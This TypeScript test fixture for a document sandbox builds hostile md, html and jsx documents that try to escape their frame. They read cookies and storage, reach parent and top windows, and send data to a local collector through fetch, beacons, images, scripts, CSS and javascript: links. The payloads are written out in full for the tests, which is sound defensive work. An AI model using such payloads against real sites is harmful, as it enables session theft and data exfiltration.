// Escape attempts of a hostile document inside its frame, as documents of each type, and a server elsewhere that
// receives everything they leak.

export interface Collector {
  readonly origin: string;
  /** Everything received. */
  readonly received: string[];
  stop(): Promise<void>;
}

export function startCollector(): Collector {
  const received: string[] = [];
  const server = Bun.serve({
    port: 0,
    hostname: "127.0.0.1",
    fetch: (request) => {
      received.push(`${request.method} ${request.url}`);
      return new Response("received", { headers: { "access-control-allow-origin": "*" } });
    },
  });
  return { origin: `http://127.0.0.1:${server.port}`, received, stop: () => server.stop(true) };
}

/** Attempts that must end in an error; each is the body of an async function. */
const attempts = (collector: string, instance: string): Readonly<Record<string, string>> => ({
  // A document has separate cookies and storage in memory, which must not include the app's.
  readCookie: "if (document.cookie === '') throw new Error('empty'); return document.cookie",
  localStorage: "if (localStorage.length === 0) throw new Error('empty'); return JSON.stringify({ ...localStorage })",
  sessionStorage:
    "if (sessionStorage.length === 0) throw new Error('empty'); return JSON.stringify({ ...sessionStorage })",
  indexedDb: "if ((await indexedDB.databases()).length === 0) throw new Error('empty'); return indexedDB",
  cacheStorage: "if ((await caches.keys()).length === 0) throw new Error('empty'); return caches",
  serviceWorker: "return await navigator.serviceWorker.register('/a.js')",
  parentDocument: "return parent.document.title",
  topDocument: "return top.document.cookie",
  topNavigation: `top.location.href = '${collector}/top'`,
  fetchOut: `return await fetch('${collector}/fetch', { mode: 'no-cors' })`,
  fetchApi: `return await fetch('${instance}/api/profile/me', { credentials: 'include' })`,
  xhr: `return new Promise((ok, no) => { const x = new XMLHttpRequest(); x.onload = ok; x.onerror = () => no(new Error('blocked')); x.open('GET', '${collector}/xhr'); x.send(); })`,
  image: `return new Promise((ok, no) => { const i = new Image(); i.onload = ok; i.onerror = () => no(new Error('blocked')); i.src = '${collector}/image'; })`,
  script: `return new Promise((ok, no) => { const s = document.createElement('script'); s.onload = ok; s.onerror = () => no(new Error('blocked')); s.src = '${collector}/script.js'; document.body.append(s); })`,
  stylesheet: `return new Promise((ok, no) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.onload = ok; l.onerror = () => no(new Error('blocked')); l.href = '${collector}/style.css'; document.head.append(l); })`,
  webSocket: `return new Promise((ok, no) => { const w = new WebSocket('${collector.replace("http", "ws")}/socket'); w.onopen = ok; w.onerror = () => no(new Error('blocked')); })`,
  eventSource: `return new Promise((ok, no) => { const e = new EventSource('${collector}/events'); e.onopen = ok; e.onerror = () => { e.close(); no(new Error('blocked')); }; })`,
  dynamicImport: `return await import('${collector}/module.js')`,
});

/** The names of the attempts that a type can make: jsx with foreign imports is not even published. */
export const attemptNames = (type: "html" | "jsx"): string[] =>
  Object.keys(attempts("", "")).filter((name) => type === "html" || name !== "dynamicImport");

/** Further attempts that report no outcome: only the collector shows that they fail. */
const silent = (collector: string): string => `
  document.cookie = 'session=stolen'; localStorage.setItem('kept', 'stolen'); sessionStorage.setItem('kept', 'stolen');
  navigator.sendBeacon('${collector}/beacon', 'a');
  for (const rel of ['prefetch', 'preconnect', 'dns-prefetch', 'preload', 'icon', 'manifest']) {
    const l = document.createElement('link'); l.rel = rel; l.as = 'image'; l.href = '${collector}/' + rel; document.head.append(l);
  }
  const i = document.createElement('iframe'); i.src = '${collector}/frame'; document.body.append(i);
  const s = document.createElement('style'); s.textContent = "body{background:url('${collector}/background')}@font-face{font-family:x;src:url('${collector}/font')}*{font-family:x}"; document.head.append(s);
  const a = document.createElement('a'); a.href = '${collector}/ping'; a.ping = '${collector}/ping'; document.body.append(a);
`;

/** JavaScript that makes every attempt and returns how each ended. */
function script(type: "html" | "jsx", collector: string, instance: string): string {
  const bodies = attempts(collector, instance);
  const tries = attemptNames(type).map(
    (name) =>
      `try { await (async () => { ${bodies[name]} })(); out.${name} = 'it worked'; } catch (e) { out.${name} = 'refused'; }`,
  );
  return `async () => { const out = {}; ${tries.join("\n")} ${silent(collector)} return JSON.stringify(out); }`;
}

/** A document of the type that makes the attempts; html and jsx write the outcome into `#outcome`. */
export function hostileDocument(type: "md" | "html" | "jsx", collector: string, instance: string): string {
  if (type === "html") {
    return `<!doctype html><title>Hostile</title><body><pre id="outcome"></pre><script>
      (${script(type, collector, instance)})().then((text) => { document.getElementById('outcome').textContent = text; });
    </script>`;
  }
  if (type === "jsx") {
    return `import { useEffect, useState } from "react";
const attempt = ${script(type, collector, instance)};
export default function Hostile() {
  const [outcome, setOutcome] = useState("");
  useEffect(() => { attempt().then(setOutcome); }, []);
  return <pre id="outcome">{outcome}</pre>;
}`;
  }
  return `# Hostile

<script>fetch('${collector}/script')</script>
<img src="${collector}/html-image" onerror="fetch('${collector}/onerror')">
![picture](${collector}/image)
<iframe src="${collector}/frame"></iframe>
<style>@import url('${collector}/style');</style>
<meta http-equiv="refresh" content="0;url=${collector}/refresh">
<link rel="stylesheet" href="${collector}/link">
<base href="${collector}/base/">
<form action="${collector}/form"><button id="outcome" formaction="javascript:fetch('${collector}/formaction')">Send</button></form>
<svg><image href="${collector}/svg"/><script>fetch('${collector}/svg-script')</script></svg>
<video src="${collector}/video" poster="${collector}/poster"></video>
[link](javascript:fetch('${collector}/javascript'))

The end of it.
`;
}

/** Documents that navigate their own frame elsewhere, by method. */
export const leavingDocuments = (collector: string): Readonly<Record<string, string>> => {
  const later = (script: string) =>
    `<!doctype html><title>Leaving</title><p>Still here</p><script>setTimeout(() => { ${script} }, 50);</script>`;
  return {
    location: later(`location.href = '${collector}/location'`),
    form: later(
      `const f = document.createElement('form'); f.action = '${collector}/form'; f.method = 'post'; document.body.append(f); f.submit()`,
    ),
    link: later(
      `const a = document.createElement('a'); a.href = '${collector}/link'; document.body.append(a); a.click()`,
    ),
    refresh: `<!doctype html><meta http-equiv="refresh" content="0;url=${collector}/refresh"><p>Still here</p>`,
  };
};
